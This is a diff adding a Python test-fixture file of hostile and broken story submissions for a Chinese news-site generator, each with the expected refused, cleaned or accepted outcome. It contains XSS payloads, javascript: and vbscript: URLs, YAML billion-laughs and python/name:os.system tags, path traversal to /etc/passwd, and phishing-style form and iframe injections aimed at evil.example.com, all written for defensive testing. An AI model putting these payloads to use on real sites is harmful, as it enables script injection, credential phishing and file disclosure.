@@ -1,0 +1,200 @@
+"""Hostile and broken input: what a careless or malicious correspondent can send, one case each.
+
+Every case is a story file `<id>.md` (with, where it needs them, files beside it) written
+into `content/news/2024/` of the basic fixture; `{f}` in the expected lines stands for that
+file's path as `gwsite check` names it. Outcomes:
+
+- REFUSED: `gwsite check` and the build report exactly `expected` and fail; nothing is published.
+- CLEANED: the story is published without what `expected` (a warning) says was removed.
+- ACCEPTED: the story is published as written, with no problem reported.
+
+Every payload that could run carries the marker GWXSS, so a scan of the built site can look
+for any of them that survived.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+REFUSED, CLEANED, ACCEPTED = "refused", "cleaned", "accepted"
+
+# One value that is markup in every context: an element, an attribute breaker, an entity.
+PAYLOAD = '<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;'
+HEAD = """\
+---
+title: {title}
+date: 2024-03-01
+unit: 安平县关工委
+{extra}---
+
+"""
+BODY = "3月1日，安平县关工委召开全体会议，部署全年工作。\n"
+
+
+def quoted(text: str) -> str:
+    """A YAML double-quoted scalar."""
+    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def story(extra: str = "", body: str = BODY, title: str = "安平县关工委召开工作会议") -> str:
+    return HEAD.format(title=title, extra=extra) + body
+
+
+def placement(**fields: str) -> str:
+    lines = {"outlet": "青州日报", "date": "2024-03-02", **fields}
+    return "placements:\n  - " + "\n    ".join(f"{key}: {value}" for key, value in lines.items()) + "\n"
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    content: str | bytes
+    outcome: str
+    expected: tuple[str, ...] = ()
+    files: dict[str, bytes] = field(default_factory=dict)  # beside the story, by name
+    shows: str | None = None  # CLEANED/ACCEPTED: text the published story page must show
+
+
+def removed(line: int, *what: str, video: bool = False) -> str:
+    message = f"{{f}}:{line}: 正文: 警告：正文中有不安全或网站不支持的 HTML，发布时已删除：{'、'.join(what)}"
+    return message + ("；嵌入视频只能用网站允许的视频网站播放器地址（https）" if video else "")
+
+
+def body(text: str) -> str:
+    return story(body=BODY + "\n" + text + "\n")
+
+
+TRUNCATED_JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'GWXSS\')"><script>alert("GWXSS")</script></svg>'
+
+CASES = [
+    # -- Markup in every front-matter field that takes text: published, escaped exactly once.
+    Case("xss-title", story(title=quoted(PAYLOAD)), ACCEPTED, shows=PAYLOAD),
+    Case("xss-summary", story(f"summary: {quoted(PAYLOAD)}\n"), ACCEPTED, shows=PAYLOAD),
+    Case("xss-authors", story(f"authors: [{quoted(PAYLOAD)}, 李红]\n"), ACCEPTED, shows=PAYLOAD),
+    Case("xss-tags", story(f"tags: [{quoted('<i>GWXSS</i>')}]\n"), ACCEPTED, shows="<i>GWXSS</i>"),
+    Case("xss-description", story(f"description: {quoted(PAYLOAD)}\n"), ACCEPTED),
+    Case("xss-placement-section", story(placement(section=quoted(PAYLOAD))), ACCEPTED, shows=PAYLOAD),
+    Case("xss-placement-url-quote", story(placement(url=quoted('https://www.qzrb.example.cn/a"onmouseover="alert(\'GWXSS\')'))),
+         ACCEPTED),
+    Case("xss-placement-outlet", story(placement(outlet=quoted("<i>GWXSS</i>日报"), level="市级")), ACCEPTED,
+         ("{f}:6: placements[1].outlet: 提示：媒体“<i>GWXSS</i>日报”尚未列入媒体名录，待办公室核定级别后计分",),
+         shows="<i>GWXSS</i>日报"),
+    # -- Front-matter that is refused.
+    Case("xss-category", story(f"category: {quoted(PAYLOAD)}\n"), REFUSED,
+         ('{f}:5: category: 没有“<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;”这个栏目，'
+          "可用的栏目有：工作动态、基层风采、五老风采、媒体聚焦、通知公告",)),
+    Case("xss-unit", story().replace("unit: 安平县关工委", f"unit: {quoted(PAYLOAD)}"), REFUSED,
+         ('{f}:4: unit: 未登记的单位“<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;”，'
+          "请使用 units.yml 中登记的单位名称",)),
+    Case("xss-slug", story('slug: "<script>x</script>"\n'), ACCEPTED),  # published at …/script-x-script/
+    Case("placement-url-data", story(placement(url="'data:text/html,<script>alert(1)</script>'")), REFUSED,
+         ("{f}:8: placements[1].url: 链接应以 http:// 或 https:// 开头，不是“data:text/html,<script>alert(1)</script>”",)),
+    Case("placement-url-vbscript", story(placement(url="'vbscript:msgbox(1)'")), REFUSED,
+         ("{f}:8: placements[1].url: 链接应以 http:// 或 https:// 开头，不是“vbscript:msgbox(1)”",)),
+    Case("yaml-billion-laughs",
+         story('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
+               "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
+               "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"),
+         REFUSED, ("{f}:5: a: 不支持 YAML 锚点和引用（& 与 *），请把内容直接写出来",)),
+    Case("yaml-merge-key", story("<<: {title: 覆盖的标题}\n"), REFUSED,
+         ("{f}:5: <<: 不支持 YAML 合并键“<<”",)),
+    Case("yaml-python-name", story("tags: !!python/name:os.system\n"), REFUSED,
+         ("{f}:5: tags: 不允许使用 YAML 标签“!!python/name:os.system”，请删去它，只写普通的文字、数字或日期",)),
+    Case("yaml-binary", story("summary: !!binary R0lGODlhAQABAAAAACw=\n"), REFUSED,
+         ("{f}:5: summary: 不允许使用 YAML 标签“!!binary”，请删去它，只写普通的文字、数字或日期",)),
+    Case("yaml-huge-key", story("x" * 2000 + ": 1\n"), REFUSED,
+         ("{f}:5: " + "x" * 40 + "…: YAML 格式错误：这一行缺少“字段: 值”中的冒号，或上一行的引号、括号没有闭合",)),
+    # -- Paths that reach outside content/.
+    Case("cover-unc", story("cover: '\\\\server\\share\\a.jpg'\n"), REFUSED,
+         ("{f}:5: cover: “\\\\server\\share\\a.jpg”是绝对路径或网址，应写相对于稿件文件的路径，如 images/wulao.jpg",)),
+    Case("cover-file-url", story("cover: file:///etc/passwd\n"), REFUSED,
+         ("{f}:5: cover: “file:///etc/passwd”是绝对路径或网址，应写相对于稿件文件的路径，如 images/wulao.jpg",)),
+    Case("cover-deep-traversal", story("cover: images/../../../../../../etc/passwd\n"), REFUSED,
+         ("{f}:5: cover: “images/../../../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
+    Case("proof-traversal", story(placement(proof="../../../mkdocs.yml")), REFUSED,
+         ("{f}:8: placements[1].proof: “../../../mkdocs.yml”指向网站内容目录之外，图片须放在 content 目录中",)),
+    Case("body-image-traversal", body("![合影](../../../../etc/passwd)"), REFUSED,
+         ("{f}:9: 正文: “../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
+    Case("body-image-encoded-traversal", body("![合影](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)"), REFUSED,
+         ("{f}:9: 正文: “../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
+    Case("body-html-image-traversal", body('<img src="../../../../../etc/hosts">'), REFUSED,
+         ("{f}:9: 正文: “../../../../../etc/hosts”指向网站内容目录之外，图片须放在 content 目录中",)),
+    # -- Images that are not what they claim.
+    Case("cover-svg-script", story("cover: hostile.svg\n"), REFUSED,
+         ("{f}:5: cover: SVG 等矢量图或网页文件可能带有脚本，网站不接受；请另存为 JPG 或 PNG 图片",),
+         files={"hostile.svg": SVG}),
+    Case("cover-html-as-jpg", story("cover: page.jpg\n"), REFUSED,
+         ("{f}:5: cover: SVG 等矢量图或网页文件可能带有脚本，网站不接受；请另存为 JPG 或 PNG 图片",),
+         files={"page.jpg": b"<html><script>alert('GWXSS')</script></html>"}),
+    Case("cover-truncated-jpeg", story("cover: cut.jpg\n"), REFUSED,
+         ("{f}:5: cover: “cut.jpg”的内容不是可识别的图片（可能是改了扩展名的其他文件，或已损坏）；请放入 JPG、PNG 或手机拍摄的 HEIC 照片",),
+         files={"cut.jpg": TRUNCATED_JPEG}),
+    Case("cover-empty-file", story("cover: empty.png\n"), REFUSED,
+         ("{f}:5: cover: “empty.png”的内容不是可识别的图片（可能是改了扩展名的其他文件，或已损坏）；请放入 JPG、PNG 或手机拍摄的 HEIC 照片",), files={"empty.png": b""}),
+    # -- Encodings and invisible characters.
+    Case("utf16", story().encode("utf-16"), REFUSED,
+         ("{f}:1: 编码: 文件不是 UTF-8 编码（可能是 GBK），请用记事本或 WPS“另存为”，编码选 UTF-8 后再提交",)),
+    Case("invalid-utf8-in-body", story().encode() + b"\xc0\xaf\xff\n", REFUSED,
+         ("{f}:8: 编码: 文件不是 UTF-8 编码（可能是 GBK），请用记事本或 WPS“另存为”，编码选 UTF-8 后再提交",)),
+    Case("nul-bytes", story(body="全体会议\x00部署工作。\n"), CLEANED,
+         ("{f}:7: 正文: 警告：有 1 个看不见的控制字符（常见于从 Word 粘贴的文字），网站和订阅源中已删去；"
+          "请在原稿中删除后重新输入这些文字附近的标点或换行",), shows="全体会议部署工作。"),
+    Case("bom", b"\xef\xbb\xbf" + story(title="带字节顺序标记的稿件").encode(), ACCEPTED, shows="带字节顺序标记的稿件"),
+    Case("crlf", story(title="Windows 换行的稿件", body="第一段。\r\n\r\n第二段。\r\n").replace("\n", "\r\n").replace("\r\r", "\r").encode(),
+         ACCEPTED, shows="第二段。"),
+    Case("old-mac-cr", story(title="旧式换行的稿件").replace("\n", "\r").encode(), ACCEPTED, shows="旧式换行的稿件"),
+    Case("bidi-override-title", story(title=quoted("会议\u202e纪要")), ACCEPTED, shows="会议\u202e纪要"),
+    # -- Work without bound.
+    Case("brackets-nested", body("[" * 20000 + "]" * 20000), REFUSED,
+         ("{f}:9: 正文: 这一段有 20000 个方括号“[”，生成网页会极慢；方括号只用于链接和图片，如 [文字](网址)，请删去多余的",)),
+    Case("brackets-images", body("![" * 8000), REFUSED,
+         ("{f}:9: 正文: 这一段有 8000 个方括号“[”，生成网页会极慢；方括号只用于链接和图片，如 [文字](网址)，请删去多余的",)),
+    Case("quotes-nested", body("\n".join(">" * depth + " 引文" for depth in range(1, 60))), REFUSED,
+         ("{f}:41: 正文: 这一行的引用符号“>”和缩进嵌套了 33 层，超过 32 层的上限；请删去行首多余的“>”或空格",)),
+    Case("lists-nested", body("\n".join("    " * depth + "- 要点" for depth in range(400))), REFUSED,
+         ("{f}:42: 正文: 这一行的引用符号“>”和缩进嵌套了 33 层，超过 32 层的上限；请删去行首多余的“>”或空格",)),
+    Case("markup-flood", body("*_" * 30000), REFUSED,
+         ("{f}:7: 正文: 正文中的 Markdown 符号（* _ [ ] | < > 等）有 60000 个，超过 50000 个的上限，"
+          "生成网页会极慢；请删去多余的符号，长表格请另做附件",)),
+    # -- HTML in the body: removed, and the author told.
+    Case("body-script", body("<script>alert('GWXSS')</script>"), CLEANED, (removed(9, "<script> 元素"),)),
+    Case("body-style", body("<style>body{display:none}</style>"), CLEANED, (removed(9, "<style> 元素"),)),
+    Case("body-onerror", body('<img src="https://img.example.cn/a.jpg" onerror="alert(\'GWXSS\')">'), CLEANED,
+         (removed(9, "onerror 事件属性"),)),
+    Case("body-javascript-link", body("[点击查看](javascript:alert('GWXSS'))"), CLEANED, (removed(9, "javascript: 链接"),),
+         shows="点击查看"),
+    Case("body-javascript-entities", body('<a href="&#106;avascript:alert(\'GWXSS\')">详情</a>'), CLEANED,
+         (removed(9, "javascript: 链接"),), shows="详情"),
+    Case("body-javascript-tab", body('<a href="java\tscript:alert(\'GWXSS\')">详情</a>'), CLEANED,
+         (removed(9, "javascript: 链接"),)),
+    Case("body-data-image", body('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'), CLEANED,
+         (removed(9, "data: 链接"),)),
+    Case("body-iframe-foreign", body('<iframe src="https://evil.example.com/GWXSS"></iframe>'), CLEANED,
+         (removed(9, "来自 evil.example.com 的 <iframe>", video=True),)),
+    Case("body-iframe-http-video", body('<iframe src="http://player.bilibili.com/player.html?bvid=GWXSS"></iframe>'),
+         CLEANED, (removed(9, "来自 player.bilibili.com 的 <iframe>", video=True),)),
+    Case("body-iframe-video", body('<iframe src="https://player.bilibili.com/player.html?bvid=BV1xx411c7mD" '
+                                   'allowfullscreen></iframe>'), ACCEPTED),
+    Case("body-object-embed", body('<object data="https://evil.example.com/x.swf"></object><embed src="x.swf">'),
+         CLEANED, (removed(9, "<object> 标签", "<embed> 标签"),)),
+    Case("body-form", body('<form action="https://evil.example.com/"><input type="password" name="p"></form>'),
+         CLEANED, (removed(9, "<form> 标签", 'type="password" 的输入框'),)),
+    Case("body-meta-refresh", body('<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'),
+         CLEANED, (removed(9, "<meta> 标签"),)),
+    Case("body-base-href", body('<base href="https://evil.example.com/">'), CLEANED, (removed(9, "<base> 标签"),)),
+    Case("body-svg-onload", body("<svg onload=\"alert('GWXSS')\"><circle r=\"5\"/></svg>"), CLEANED,
+         (removed(9, "<svg> 标签", "<circle> 标签"),)),
+    Case("body-attr-list-onclick", body("会议现场\n{: onclick=\"alert('GWXSS')\" }"), CLEANED,
+         (removed(10, "onclick 事件属性"),), shows="会议现场"),
+    Case("body-style-overlay", body('<p style="position:fixed;top:0;left:0;width:100%">GWXSS</p>'), CLEANED,
+         (removed(9, "style 属性"),)),
+    Case("body-noscript-mutation", body('<noscript><p title="</noscript><img src=https://img.example.cn/x.jpg onerror=alert(\'GWXSS\')>"></noscript>'),
+         CLEANED, (removed(9, "<noscript> 标签", "onerror 事件属性"),)),
+    Case("body-comment-hidden-script", body("<!-- <script>alert('GWXSS')</script> -->正文结束。"), ACCEPTED),
+    Case("body-code-shows-markup", body("`<script>alert('GWXSS')</script>`"), ACCEPTED,
+         shows="<script>alert('GWXSS')</script>"),
+]
+
+REFUSED_CASES = [case for case in CASES if case.outcome == REFUSED]
+PUBLISHED_CASES = [case for case in CASES if case.outcome != REFUSED]
